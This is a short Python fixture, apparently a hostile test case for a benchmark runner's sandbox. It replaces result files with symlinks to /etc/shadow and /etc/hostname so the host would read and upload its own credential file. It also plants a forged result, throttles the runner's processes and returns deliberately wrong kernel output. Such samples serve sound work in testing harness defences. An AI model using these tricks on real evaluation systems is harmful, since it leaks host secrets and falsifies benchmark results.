"""Odd result.json: a symlink to a host path (the host would read, and upload as an artifact,
a file of its own), plus a forged result under a name the link can point at. Starve the runner."""
from hostile import *

for _d in out_dirs():
    _p = os.path.join(_d, "result.json")
    write_file(os.path.join(_d, f"forged-{TOKEN}.json"), forged_json())
    for _name, _target in (("result.json", "/etc/shadow"), ("result.json.sig", "/etc/hostname")):
        with contextlib.suppress(OSError):
            os.unlink(os.path.join(_d, _name))
        with contextlib.suppress(OSError):
            os.symlink(_target, os.path.join(_d, _name))
for _pid in kitebench_targets():
    prlimit(_pid, 1, 0)


def custom_kernel(data):
    return wrong(data)
